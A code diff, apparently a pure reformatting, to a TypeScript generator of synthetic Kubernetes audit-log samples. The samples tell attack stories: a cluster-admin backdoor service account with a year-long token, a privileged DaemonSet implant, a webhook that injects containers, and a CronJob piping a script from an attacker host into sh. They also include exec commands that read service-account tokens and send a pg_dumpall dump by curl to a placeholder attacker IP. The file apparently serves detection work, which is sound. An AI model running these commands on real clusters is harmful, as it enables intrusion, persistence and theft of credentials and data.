@@ -322,7 +322,9 @@ function implantPodSpec(defaults: boolean): Ev {
       { name: 'containerd-sock', hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } },
     ],
     containers: [implantContainer(defaults)],
-    ...(defaults ? { restartPolicy: 'Always', terminationGracePeriodSeconds: 30, dnsPolicy: 'ClusterFirstWithHostNet' } : { dnsPolicy: 'ClusterFirstWithHostNet' }),
+    ...(defaults
+      ? { restartPolicy: 'Always', terminationGracePeriodSeconds: 30, dnsPolicy: 'ClusterFirstWithHostNet' }
+      : { dnsPolicy: 'ClusterFirstWithHostNet' }),
     serviceAccountName: BACKDOOR_SA,
     ...(defaults ? { serviceAccount: BACKDOOR_SA } : {}),
     hostNetwork: true,
@@ -375,36 +377,104 @@ function stolenCredentials(): Story {
   };
   const events: Ev[] = [
     ...call({
-      id: 'a/whoami', at: t.whoami, ms: 3.1, level: 'Metadata', verb: 'create', uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews', by: stolenKey,
-      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'), code: 201,
+      id: 'a/whoami',
+      at: t.whoami,
+      ms: 3.1,
+      level: 'Metadata',
+      verb: 'create',
+      uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
+      by: stolenKey,
+      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'),
+      code: 201,
     }),
     ...call({
-      id: 'a/can-i-list', at: t.canI, ms: 6.4, level: 'Metadata', verb: 'create', uri: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', by: stolenKey,
-      objectRef: ref('selfsubjectrulesreviews', undefined, undefined, 'authorization.k8s.io'), code: 201,
+      id: 'a/can-i-list',
+      at: t.canI,
+      ms: 6.4,
+      level: 'Metadata',
+      verb: 'create',
+      uri: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
+      by: stolenKey,
+      objectRef: ref('selfsubjectrulesreviews', undefined, undefined, 'authorization.k8s.io'),
+      code: 201,
     }),
-    ...call({ id: 'a/get-nodes', at: t.nodes, ms: 21.7, level: 'Metadata', verb: 'list', uri: '/api/v1/nodes?limit=500', by: stolenKey, objectRef: ref('nodes', undefined, undefined) }),
     ...call({
-      id: 'a/create-sa', at: t.sa, ms: 7.9, level: 'RequestResponse', verb: 'create', uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts${kubectlCreate}`, by: stolenKey,
-      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA), code: 201,
-      requestObject: serviceAccount, responseObject: { ...created(serviceAccount, t.sa, `serviceaccount-${BACKDOOR_SA}`, 'kubectl-create') },
+      id: 'a/get-nodes',
+      at: t.nodes,
+      ms: 21.7,
+      level: 'Metadata',
+      verb: 'list',
+      uri: '/api/v1/nodes?limit=500',
+      by: stolenKey,
+      objectRef: ref('nodes', undefined, undefined),
     }),
     ...call({
-      id: 'a/create-crb', at: t.crb, ms: 5.2, level: 'RequestResponse', verb: 'create', uri: `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings${kubectlCreate}`, by: stolenKey,
-      objectRef: ref('clusterrolebindings', undefined, BACKDOOR_SA, 'rbac.authorization.k8s.io'), code: 201,
-      requestObject: binding, responseObject: created(binding, t.crb, `clusterrolebinding-${BACKDOOR_SA}`, 'kubectl-create'),
+      id: 'a/create-sa',
+      at: t.sa,
+      ms: 7.9,
+      level: 'RequestResponse',
+      verb: 'create',
+      uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts${kubectlCreate}`,
+      by: stolenKey,
+      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA),
+      code: 201,
+      requestObject: serviceAccount,
+      responseObject: { ...created(serviceAccount, t.sa, `serviceaccount-${BACKDOOR_SA}`, 'kubectl-create') },
+    }),
+    ...call({
+      id: 'a/create-crb',
+      at: t.crb,
+      ms: 5.2,
+      level: 'RequestResponse',
+      verb: 'create',
+      uri: `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings${kubectlCreate}`,
+      by: stolenKey,
+      objectRef: ref('clusterrolebindings', undefined, BACKDOOR_SA, 'rbac.authorization.k8s.io'),
+      code: 201,
+      requestObject: binding,
+      responseObject: created(binding, t.crb, `clusterrolebinding-${BACKDOOR_SA}`, 'kubectl-create'),
     }),
     // `kubectl create token node-health-agent -n kube-system --duration=8760h`
     ...call({
-      id: 'a/create-token', at: t.token, ms: 4.6, level: 'Request', verb: 'create', uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts/${BACKDOOR_SA}/token`, by: stolenKey,
-      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA, '', 'v1', 'token'), code: 201,
-      requestObject: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: 31_536_000, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } },
+      id: 'a/create-token',
+      at: t.token,
+      ms: 4.6,
+      level: 'Request',
+      verb: 'create',
+      uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts/${BACKDOOR_SA}/token`,
+      by: stolenKey,
+      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA, '', 'v1', 'token'),
+      code: 201,
+      requestObject: {
+        kind: 'TokenRequest',
+        apiVersion: 'authentication.k8s.io/v1',
+        metadata: { creationTimestamp: null },
+        spec: { audiences: null, expirationSeconds: 31_536_000, boundObjectRef: null },
+        status: { token: '', expirationTimestamp: null },
+      },
     }),
     // Three minutes later the token works from the attacker's server.
     ...call({
-      id: 'a/token-whoami', at: t.tokenWhoami, ms: 2.8, level: 'Metadata', verb: 'create', uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews', by: backdoorToken,
-      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'), code: 201,
+      id: 'a/token-whoami',
+      at: t.tokenWhoami,
+      ms: 2.8,
+      level: 'Metadata',
+      verb: 'create',
+      uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
+      by: backdoorToken,
+      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'),
+      code: 201,
     }),
-    ...call({ id: 'a/token-list-secrets', at: t.secrets, ms: 187.3, level: 'Metadata', verb: 'list', uri: '/api/v1/secrets?limit=500', by: backdoorToken, objectRef: ref('secrets', undefined, undefined) }),
+    ...call({
+      id: 'a/token-list-secrets',
+      at: t.secrets,
+      ms: 187.3,
+      level: 'Metadata',
+      verb: 'list',
+      uri: '/api/v1/secrets?limit=500',
+      by: backdoorToken,
+      objectRef: ref('secrets', undefined, undefined),
+    }),
   ];
   return { id: 'a', title: 'Stolen laptop credentials bind cluster-admin to a new service account', parts: [['eks-09', events]] };
 }
@@ -412,9 +482,15 @@ function stolenCredentials(): Story {
 function privilegedDaemonSet(): Story {
   const at = '2026-11-20T09:00:05.390214Z';
   const events = call({
-    id: 'b/create-daemonset', at, ms: 14.8, level: 'RequestResponse', verb: 'create',
-    uri: `/apis/apps/v1/namespaces/${BACKDOOR_NS}/daemonsets?fieldManager=kubectl-create&fieldValidation=Strict`, by: stolenKey,
-    objectRef: ref('daemonsets', BACKDOOR_NS, IMPLANT, 'apps'), code: 201,
+    id: 'b/create-daemonset',
+    at,
+    ms: 14.8,
+    level: 'RequestResponse',
+    verb: 'create',
+    uri: `/apis/apps/v1/namespaces/${BACKDOOR_NS}/daemonsets?fieldManager=kubectl-create&fieldValidation=Strict`,
+    by: stolenKey,
+    objectRef: ref('daemonsets', BACKDOOR_NS, IMPLANT, 'apps'),
+    code: 201,
     requestObject: implantDaemonSet(false),
     responseObject: created(implantDaemonSet(true), at, `daemonset-${IMPLANT}`, 'kubectl-create', {
       generation: 1,
@@ -422,7 +498,7 @@ function privilegedDaemonSet(): Story {
       status: { currentNumberScheduled: 0, numberMisscheduled: 0, desiredNumberScheduled: 0, numberReady: 0 },
     }),
   });
-  return { id: 'b', title: 'A privileged DaemonSet mounting every node\'s root filesystem', parts: [['eks-09', events]] };
+  return { id: 'b', title: "A privileged DaemonSet mounting every node's root filesystem", parts: [['eks-09', events]] };
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -442,24 +518,57 @@ function crashLoop(): Story {
   };
   const podSpec: Ev = {
     ...implantPodSpec(true),
-    affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchFields: [{ key: 'metadata.name', operator: 'In', values: [NEW_NODE] }] }] } } },
+    affinity: {
+      nodeAffinity: {
+        requiredDuringSchedulingIgnoredDuringExecution: {
+          nodeSelectorTerms: [{ matchFields: [{ key: 'metadata.name', operator: 'In', values: [NEW_NODE] }] }],
+        },
+      },
+    },
   };
   const podBody: Ev = { kind: 'Pod', apiVersion: 'v1', metadata: podMetadata, spec: podSpec, status: {} };
   const events: Ev[] = [
     ...call({
-      id: 'f/create-pod', at: createdAt, ms: 9.3, level: 'RequestResponse', verb: 'create', uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods`, by: controller('daemon-set-controller'),
-      objectRef: ref('pods', BACKDOOR_NS, pod), code: 201, requestObject: podBody,
+      id: 'f/create-pod',
+      at: createdAt,
+      ms: 9.3,
+      level: 'RequestResponse',
+      verb: 'create',
+      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods`,
+      by: controller('daemon-set-controller'),
+      objectRef: ref('pods', BACKDOOR_NS, pod),
+      code: 201,
+      requestObject: podBody,
       responseObject: {
         ...podBody,
-        metadata: { ...podMetadata, name: pod, uid: podUid, resourceVersion: '183512207', creationTimestamp: secondsTime(micros(createdAt)), managedFields: [managedBy('kube-controller-manager', 'v1', createdAt, { metadata: podMetadata, spec: podSpec })] },
+        metadata: {
+          ...podMetadata,
+          name: pod,
+          uid: podUid,
+          resourceVersion: '183512207',
+          creationTimestamp: secondsTime(micros(createdAt)),
+          managedFields: [managedBy('kube-controller-manager', 'v1', createdAt, { metadata: podMetadata, spec: podSpec })],
+        },
         status: { phase: 'Pending', qosClass: 'Burstable' },
       },
       annotations: { 'pod-security.kubernetes.io/enforce-policy': 'privileged:latest' },
     }),
     ...call({
-      id: 'f/bind-pod', at: '2026-11-20T10:00:01.347920Z', ms: 3.4, level: 'Request', verb: 'create', uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/binding`, by: scheduler,
-      objectRef: ref('pods', BACKDOOR_NS, pod, '', 'v1', 'binding'), code: 201,
-      requestObject: { kind: 'Binding', apiVersion: 'v1', metadata: { name: pod, namespace: BACKDOOR_NS, uid: podUid, creationTimestamp: null }, target: { kind: 'Node', name: NEW_NODE } },
+      id: 'f/bind-pod',
+      at: '2026-11-20T10:00:01.347920Z',
+      ms: 3.4,
+      level: 'Request',
+      verb: 'create',
+      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/binding`,
+      by: scheduler,
+      objectRef: ref('pods', BACKDOOR_NS, pod, '', 'v1', 'binding'),
+      code: 201,
+      requestObject: {
+        kind: 'Binding',
+        apiVersion: 'v1',
+        metadata: { name: pod, namespace: BACKDOOR_NS, uid: podUid, creationTimestamp: null },
+        target: { kind: 'Node', name: NEW_NODE },
+      },
     }),
   ];
 
@@ -472,20 +581,51 @@ function crashLoop(): Story {
     const readiness = ready ? 'True' : 'False';
     const why = ready ? {} : { message: 'containers with unready status: [agent]', reason: 'ContainersNotReady' };
     return call({
-      id, at, ms: 4.1, level: 'Request', verb: 'patch', uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/status`, by: kubelet,
+      id,
+      at,
+      ms: 4.1,
+      level: 'Request',
+      verb: 'patch',
+      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/status`,
+      by: kubelet,
       objectRef: ref('pods', BACKDOOR_NS, pod, '', 'v1', 'status'),
       requestObject: {
         metadata: { uid: podUid },
         status: {
-          '$setElementOrder/conditions': [{ type: 'PodReadyToStartContainers' }, { type: 'Initialized' }, { type: 'Ready' }, { type: 'ContainersReady' }, { type: 'PodScheduled' }],
+          '$setElementOrder/conditions': [
+            { type: 'PodReadyToStartContainers' },
+            { type: 'Initialized' },
+            { type: 'Ready' },
+            { type: 'ContainersReady' },
+            { type: 'PodScheduled' },
+          ],
           conditions: [
             { lastTransitionTime: secondsTime(micros(at)), ...why, status: readiness, type: 'Ready' },
             { lastTransitionTime: secondsTime(micros(at)), ...why, status: readiness, type: 'ContainersReady' },
           ],
           containerStatuses: [
-            { containerID: runId(restartCount), image: IMPLANT_IMAGE, imageID: IMPLANT_IMAGE_ID, lastState, name: 'agent', ready, restartCount, started: ready, state },
+            {
+              containerID: runId(restartCount),
+              image: IMPLANT_IMAGE,
+              imageID: IMPLANT_IMAGE_ID,
+              lastState,
+              name: 'agent',
+              ready,
+              restartCount,
+              started: ready,
+              state,
+            },
           ],
-          ...(first ? { hostIP: '10.0.77.12', hostIPs: [{ ip: '10.0.77.12' }], phase: 'Running', podIP: '10.0.77.12', podIPs: [{ ip: '10.0.77.12' }], startTime: secondsTime(micros(createdAt)) } : {}),
+          ...(first
+            ? {
+                hostIP: '10.0.77.12',
+                hostIPs: [{ ip: '10.0.77.12' }],
+                phase: 'Running',
+                podIP: '10.0.77.12',
+                podIPs: [{ ip: '10.0.77.12' }],
+                startTime: secondsTime(micros(createdAt)),
+              }
+            : {}),
         },
       },
     });
@@ -494,28 +634,67 @@ function crashLoop(): Story {
   events.push(...statusPatch('f/status-started-0', plus(started, 0.41), 0, { running: { startedAt: secondsTime(micros(started)) } }, {}, true));
   for (let restart = 1; restart <= 8; restart++) {
     const exited = plus(started, 4.6 + 0.13 * restart);
-    const lastState = { terminated: { containerID: runId(restart - 1), exitCode: 1, finishedAt: secondsTime(micros(exited)), reason: 'Error', startedAt: secondsTime(micros(started)) } };
+    const lastState = {
+      terminated: {
+        containerID: runId(restart - 1),
+        exitCode: 1,
+        finishedAt: secondsTime(micros(exited)),
+        reason: 'Error',
+        startedAt: secondsTime(micros(started)),
+      },
+    };
     const backoff = Math.min(10 * 2 ** (restart - 1), 300);
-    const waiting = { waiting: { message: `back-off ${backoff >= 60 ? `${Math.floor(backoff / 60)}m${backoff % 60}s` : `${backoff}s`} restarting failed container=agent pod=${pod}_${BACKDOOR_NS}(${podUid})`, reason: 'CrashLoopBackOff' } };
+    const waiting = {
+      waiting: {
+        message: `back-off ${backoff >= 60 ? `${Math.floor(backoff / 60)}m${backoff % 60}s` : `${backoff}s`} restarting failed container=agent pod=${pod}_${BACKDOOR_NS}(${podUid})`,
+        reason: 'CrashLoopBackOff',
+      },
+    };
     events.push(...statusPatch(`f/status-backoff-${restart}`, plus(exited, 0.38), restart - 1, waiting, lastState));
     if (restart === 2) {
       events.push(
         ...call({
-          id: 'f/event-backoff', at: plus(exited, 0.52), ms: 2.2, level: 'Request', verb: 'create', uri: `/api/v1/namespaces/${BACKDOOR_NS}/events`, by: kubelet,
-          objectRef: ref('events', BACKDOOR_NS, `${pod}.187a3c5e9d2f41b6`), code: 201,
+          id: 'f/event-backoff',
+          at: plus(exited, 0.52),
+          ms: 2.2,
+          level: 'Request',
+          verb: 'create',
+          uri: `/api/v1/namespaces/${BACKDOOR_NS}/events`,
+          by: kubelet,
+          objectRef: ref('events', BACKDOOR_NS, `${pod}.187a3c5e9d2f41b6`),
+          code: 201,
           requestObject: {
-            kind: 'Event', apiVersion: 'v1', metadata: { name: `${pod}.187a3c5e9d2f41b6`, namespace: BACKDOOR_NS, creationTimestamp: null },
-            involvedObject: { kind: 'Pod', namespace: BACKDOOR_NS, name: pod, uid: podUid, apiVersion: 'v1', resourceVersion: '183512207', fieldPath: 'spec.containers{agent}' },
-            reason: 'BackOff', message: `Back-off restarting failed container agent in pod ${pod}_${BACKDOOR_NS}(${podUid})`,
-            source: { component: 'kubelet', host: NEW_NODE }, firstTimestamp: secondsTime(micros(exited)), lastTimestamp: secondsTime(micros(exited)), count: 1, type: 'Warning',
-            eventTime: null, reportingComponent: 'kubelet', reportingInstance: NEW_NODE,
+            kind: 'Event',
+            apiVersion: 'v1',
+            metadata: { name: `${pod}.187a3c5e9d2f41b6`, namespace: BACKDOOR_NS, creationTimestamp: null },
+            involvedObject: {
+              kind: 'Pod',
+              namespace: BACKDOOR_NS,
+              name: pod,
+              uid: podUid,
+              apiVersion: 'v1',
+              resourceVersion: '183512207',
+              fieldPath: 'spec.containers{agent}',
+            },
+            reason: 'BackOff',
+            message: `Back-off restarting failed container agent in pod ${pod}_${BACKDOOR_NS}(${podUid})`,
+            source: { component: 'kubelet', host: NEW_NODE },
+            firstTimestamp: secondsTime(micros(exited)),
+            lastTimestamp: secondsTime(micros(exited)),
+            count: 1,
+            type: 'Warning',
+            eventTime: null,
+            reportingComponent: 'kubelet',
+            reportingInstance: NEW_NODE,
           },
         }),
       );
     }
     if (restart === 8) break; // the sample ends here; the loop goes on every five minutes
     started = plus(exited, backoff + 0.07 * restart);
-    events.push(...statusPatch(`f/status-restarted-${restart}`, plus(started, 0.44), restart, { running: { startedAt: secondsTime(micros(started)) } }, lastState));
+    events.push(
+      ...statusPatch(`f/status-restarted-${restart}`, plus(started, 0.44), restart, { running: { startedAt: secondsTime(micros(started)) } }, lastState),
+    );
   }
   return { id: 'f', title: 'The implant crash-loops on a new node', parts: [['self-managed-10', events]] };
 }
@@ -528,14 +707,40 @@ function databaseExec(): Story {
   const ns = 'payments';
   const exec = (id: string, at: string, command: string[], seconds: number): Ev[] =>
     call({
-      id, at, ms: seconds * 1000, startedMs: 43.7, level: 'Metadata', verb: 'get',
+      id,
+      at,
+      ms: seconds * 1000,
+      startedMs: 43.7,
+      level: 'Metadata',
+      verb: 'get',
       uri: `/api/v1/namespaces/${ns}/pods/${pod}/exec?${command.map((c) => `command=${encodeURIComponent(c).replace(/%20/g, '+')}`).join('&')}&container=postgres&stderr=true&stdout=true`,
-      by: backdoorToken, objectRef: ref('pods', ns, pod, '', 'v1', 'exec'), code: 101,
+      by: backdoorToken,
+      objectRef: ref('pods', ns, pod, '', 'v1', 'exec'),
+      code: 101,
     });
   const events: Ev[] = [
-    ...call({ id: 'e/list-pods', at: '2026-11-20T11:00:02.406518Z', ms: 12.6, level: 'Metadata', verb: 'list', uri: `/api/v1/namespaces/${ns}/pods?limit=500`, by: backdoorToken, objectRef: ref('pods', ns, undefined) }),
-    ...exec('e/exec-token', '2026-11-20T11:00:05.118093Z', ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo; cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'], 1.2),
-    ...exec('e/exec-dump', '2026-11-20T11:00:31.770642Z', ['sh', '-c', `pg_dumpall -U postgres | gzip | curl -sk -T - https://${ATTACKER_SERVER_IP}:8443/u/pg.gz`], 38.4),
+    ...call({
+      id: 'e/list-pods',
+      at: '2026-11-20T11:00:02.406518Z',
+      ms: 12.6,
+      level: 'Metadata',
+      verb: 'list',
+      uri: `/api/v1/namespaces/${ns}/pods?limit=500`,
+      by: backdoorToken,
+      objectRef: ref('pods', ns, undefined),
+    }),
+    ...exec(
+      'e/exec-token',
+      '2026-11-20T11:00:05.118093Z',
+      ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo; cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'],
+      1.2,
+    ),
+    ...exec(
+      'e/exec-dump',
+      '2026-11-20T11:00:31.770642Z',
+      ['sh', '-c', `pg_dumpall -U postgres | gzip | curl -sk -T - https://${ATTACKER_SERVER_IP}:8443/u/pg.gz`],
+      38.4,
+    ),
   ];
   return { id: 'e', title: 'Exec into the payments database', parts: [['self-managed-11', events]] };
 }
@@ -563,7 +768,9 @@ function cronJobTemplate(defaults: boolean): Ev {
               image: 'docker.io/curlimages/curl:8.10.1',
               command: ['/bin/sh', '-c'],
               args: [`curl -fsSLk https://${ATTACKER_SERVER_IP}:8443/gc.sh | sh`],
-              ...(defaults ? { resources: {}, terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' } : {}),
+              ...(defaults
+                ? { resources: {}, terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' }
+                : {}),
             },
           ],
           ...(defaults ? { terminationGracePeriodSeconds: 30, dnsPolicy: 'ClusterFirst', securityContext: {}, schedulerName: 'default-scheduler' } : {}),
@@ -577,7 +784,12 @@ function cronJobBody(defaults: boolean): Ev {
   return {
     kind: 'CronJob',
     apiVersion: 'batch/v1',
-    metadata: { name: CRONJOB, namespace: BACKDOOR_NS, creationTimestamp: null, labels: { 'app.kubernetes.io/name': CRONJOB, 'app.kubernetes.io/part-of': 'eks-node-maintenance' } },
+    metadata: {
+      name: CRONJOB,
+      namespace: BACKDOOR_NS,
+      creationTimestamp: null,
+      labels: { 'app.kubernetes.io/name': CRONJOB, 'app.kubernetes.io/part-of': 'eks-node-maintenance' },
+    },
     spec: {
       schedule: '*/5 * * * *',
       concurrencyPolicy: 'Forbid',
@@ -603,14 +815,24 @@ function scheduledJob(at: string, scheduled: string): Ev[] {
       namespace: BACKDOOR_NS,
       creationTimestamp: null,
       annotations: { 'batch.kubernetes.io/cronjob-scheduled-timestamp': scheduled },
-      ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: CRONJOB, uid: uuidFor(`uid/cronjob-${CRONJOB}`), controller: true, blockOwnerDeletion: true }],
+      ownerReferences: [
+        { apiVersion: 'batch/v1', kind: 'CronJob', name: CRONJOB, uid: uuidFor(`uid/cronjob-${CRONJOB}`), controller: true, blockOwnerDeletion: true },
+      ],
     },
     spec: template.spec,
     status: {},
   };
   return call({
-    id: `d/job-${minute}`, at, ms: 8.8, level: 'RequestResponse', verb: 'create', uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs`, by: controller('cronjob-controller'),
-    objectRef: ref('jobs', BACKDOOR_NS, name, 'batch'), code: 201, requestObject: body,
+    id: `d/job-${minute}`,
+    at,
+    ms: 8.8,
+    level: 'RequestResponse',
+    verb: 'create',
+    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs`,
+    by: controller('cronjob-controller'),
+    objectRef: ref('jobs', BACKDOOR_NS, name, 'batch'),
+    code: 201,
+    requestObject: body,
     responseObject: created(body, at, `job-${name}`, 'kube-controller-manager', { generation: 1 }),
   });
 }
@@ -618,7 +840,13 @@ function scheduledJob(at: string, scheduled: string): Ev[] {
 function jobCleanup(at: string, scheduled: string): Ev[] {
   const name = `${CRONJOB}-${Math.floor(Date.parse(scheduled) / 60_000)}`;
   return call({
-    id: `d/ttl-delete-${name}`, at, ms: 6.1, level: 'Metadata', verb: 'delete', uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs/${name}`, by: controller('ttl-after-finished-controller'),
+    id: `d/ttl-delete-${name}`,
+    at,
+    ms: 6.1,
+    level: 'Metadata',
+    verb: 'delete',
+    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/jobs/${name}`,
+    by: controller('ttl-after-finished-controller'),
     objectRef: ref('jobs', BACKDOOR_NS, name, 'batch'),
   });
 }
@@ -626,25 +854,35 @@ function jobCleanup(at: string, scheduled: string): Ev[] {
 function downloadingCronJob(): Story {
   const at = '2026-11-20T12:00:04.205337Z';
   const create = call({
-    id: 'd/create-cronjob', at, ms: 9.6, level: 'RequestResponse', verb: 'create',
-    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict`, by: backdoorToken,
-    objectRef: ref('cronjobs', BACKDOOR_NS, CRONJOB, 'batch'), code: 201,
-    requestObject: cronJobBody(false), responseObject: created(cronJobBody(true), at, `cronjob-${CRONJOB}`, 'kubectl-create', { generation: 1 }),
+    id: 'd/create-cronjob',
+    at,
+    ms: 9.6,
+    level: 'RequestResponse',
+    verb: 'create',
+    uri: `/apis/batch/v1/namespaces/${BACKDOOR_NS}/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict`,
+    by: backdoorToken,
+    objectRef: ref('cronjobs', BACKDOOR_NS, CRONJOB, 'batch'),
+    code: 201,
+    requestObject: cronJobBody(false),
+    responseObject: created(cronJobBody(true), at, `cronjob-${CRONJOB}`, 'kubectl-create', { generation: 1 }),
   });
   return {
     id: 'd',
     title: 'A CronJob that downloads and runs a script every five minutes',
     parts: [
-      ['fluent-bit-12', [
-        ...create,
-        ...scheduledJob('2026-11-20T12:05:00.031874Z', '2026-11-20T12:05:00Z'),
-        ...jobCleanup('2026-11-20T12:06:09.412550Z', '2026-11-20T12:05:00Z'),
-        ...scheduledJob('2026-11-20T12:10:00.027613Z', '2026-11-20T12:10:00Z'),
-      ]],
-      ['webhook-13', [
-        ...scheduledJob('2026-11-20T13:00:00.029944Z', '2026-11-20T13:00:00Z'),
-        ...scheduledJob('2026-11-20T13:05:00.035102Z', '2026-11-20T13:05:00Z'),
-      ]],
+      [
+        'fluent-bit-12',
+        [
+          ...create,
+          ...scheduledJob('2026-11-20T12:05:00.031874Z', '2026-11-20T12:05:00Z'),
+          ...jobCleanup('2026-11-20T12:06:09.412550Z', '2026-11-20T12:05:00Z'),
+          ...scheduledJob('2026-11-20T12:10:00.027613Z', '2026-11-20T12:10:00Z'),
+        ],
+      ],
+      [
+        'webhook-13',
+        [...scheduledJob('2026-11-20T13:00:00.029944Z', '2026-11-20T13:00:00Z'), ...scheduledJob('2026-11-20T13:05:00.035102Z', '2026-11-20T13:05:00Z')],
+      ],
     ],
   };
 }
@@ -680,10 +918,17 @@ function webhookBody(defaults: boolean): Ev {
 function externalWebhook(): Story {
   const at = '2026-11-20T13:00:06.881249Z';
   const create = call({
-    id: 'c/create-webhook', at, ms: 6.7, level: 'RequestResponse', verb: 'create',
-    uri: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict', by: backdoorToken,
-    objectRef: ref('mutatingwebhookconfigurations', undefined, WEBHOOK_CONFIG, 'admissionregistration.k8s.io'), code: 201,
-    requestObject: webhookBody(false), responseObject: created(webhookBody(true), at, `webhook-${WEBHOOK_CONFIG}`, 'kubectl-create', { generation: 1 }),
+    id: 'c/create-webhook',
+    at,
+    ms: 6.7,
+    level: 'RequestResponse',
+    verb: 'create',
+    uri: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict',
+    by: backdoorToken,
+    objectRef: ref('mutatingwebhookconfigurations', undefined, WEBHOOK_CONFIG, 'admissionregistration.k8s.io'),
+    code: 201,
+    requestObject: webhookBody(false),
+    responseObject: created(webhookBody(true), at, `webhook-${WEBHOOK_CONFIG}`, 'kubectl-create', { generation: 1 }),
   });
 
   // Five minutes later a ReplicaSet replaces a checkout pod: the webhook adds a container that
@@ -721,7 +966,18 @@ function externalWebhook(): Story {
     imagePullPolicy: 'IfNotPresent',
   };
   const spec = (containers: Ev[]): Ev => ({
-    volumes: [{ name: 'kube-api-access-8vq2n', projected: { sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }, { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } }], defaultMode: 420 } }],
+    volumes: [
+      {
+        name: 'kube-api-access-8vq2n',
+        projected: {
+          sources: [
+            { serviceAccountToken: { expirationSeconds: 3607, path: 'token' } },
+            { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
+          ],
+          defaultMode: 420,
+        },
+      },
+    ],
     containers,
     restartPolicy: 'Always',
     terminationGracePeriodSeconds: 30,
@@ -733,19 +989,38 @@ function externalWebhook(): Story {
     enableServiceLinks: true,
   });
   const podCreate = call({
-    id: 'c/mutated-pod', at: podAt, ms: 231.5, level: 'RequestResponse', verb: 'create', uri: '/api/v1/namespaces/checkout/pods', by: controller('replicaset-controller'),
-    objectRef: ref('pods', 'checkout', pod), code: 201,
+    id: 'c/mutated-pod',
+    at: podAt,
+    ms: 231.5,
+    level: 'RequestResponse',
+    verb: 'create',
+    uri: '/api/v1/namespaces/checkout/pods',
+    by: controller('replicaset-controller'),
+    objectRef: ref('pods', 'checkout', pod),
+    code: 201,
     requestObject: { kind: 'Pod', apiVersion: 'v1', metadata, spec: spec([app]), status: {} },
     responseObject: {
       kind: 'Pod',
       apiVersion: 'v1',
-      metadata: { ...metadata, name: pod, uid: uuidFor(`uid/pod-${pod}`), resourceVersion: '183977410', creationTimestamp: secondsTime(micros(podAt)), managedFields: [managedBy('kube-controller-manager', 'v1', podAt, { metadata, spec: spec([app]) })] },
+      metadata: {
+        ...metadata,
+        name: pod,
+        uid: uuidFor(`uid/pod-${pod}`),
+        resourceVersion: '183977410',
+        creationTimestamp: secondsTime(micros(podAt)),
+        managedFields: [managedBy('kube-controller-manager', 'v1', podAt, { metadata, spec: spec([app]) })],
+      },
       spec: spec([app, injected]),
       status: { phase: 'Pending', qosClass: 'Burstable' },
     },
     annotations: {
       'mutation.webhook.admission.k8s.io/round_0_index_1': JSON.stringify({ configuration: WEBHOOK_CONFIG, webhook: WEBHOOK, mutated: true }),
-      'patch.webhook.admission.k8s.io/round_0_index_1': JSON.stringify({ configuration: WEBHOOK_CONFIG, webhook: WEBHOOK, patch: [{ op: 'add', path: '/spec/containers/1', value: injected }], patchType: 'JSONPatch' }),
+      'patch.webhook.admission.k8s.io/round_0_index_1': JSON.stringify({
+        configuration: WEBHOOK_CONFIG,
+        webhook: WEBHOOK,
+        patch: [{ op: 'add', path: '/spec/containers/1', value: injected }],
+        patchType: 'JSONPatch',
+      }),
       'pod-security.kubernetes.io/enforce-policy': 'privileged:latest',
     },
   });
